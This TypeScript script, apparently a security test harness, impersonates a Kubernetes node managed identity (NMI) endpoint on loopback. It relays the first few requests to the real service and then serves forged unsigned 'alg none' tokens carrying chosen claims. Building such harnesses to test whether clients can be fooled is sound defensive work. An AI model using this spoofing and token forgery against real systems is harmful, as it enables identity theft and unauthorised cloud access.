// An attacker's NMI: a process of uid 1000 without a right, on a port of the loopback that nobody else uses.
import { createServer, get } from 'node:http';

/**
 * `forged-nmi.ts <port> <claims as JSON> [<times>]`: answers with an unsigned token that claims to be somebody else's; the
 * first `times` requests get what the real NMI gives to the same pod. Prints one line for each request.
 */
const [port = '', claims = '{}', times = '0'] = process.argv.slice(2);
const REAL_NMI = 'http://127.0.0.1:2579';
let left = Number(times);
let answered = 0;

const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

const server = createServer((request, response) => {
  answered += 1;
  if (left > 0) {
    left -= 1;
    process.stdout.write(`relayed ${answered}\n`);
    const { podname = '', podns = '' } = request.headers;
    get(`${REAL_NMI}${request.url}`, { headers: { podname, podns } }, (real) => {
      response.writeHead(real.statusCode ?? 500);
      real.pipe(response);
    });
    return;
  }
  process.stdout.write(`forged ${answered}\n`);
  // Different each time, as a real one is when it is renewed.
  const token = `${part({ alg: 'none', typ: 'JWT' })}.${part({ ...JSON.parse(claims), uti: String(answered) })}.x`;
  response.end(JSON.stringify({ token: { access_token: token, expires_in: '3600' }, clientid: 'x' }));
});
server.listen(Number(port), '127.0.0.1', () => process.stdout.write('listens\n'));
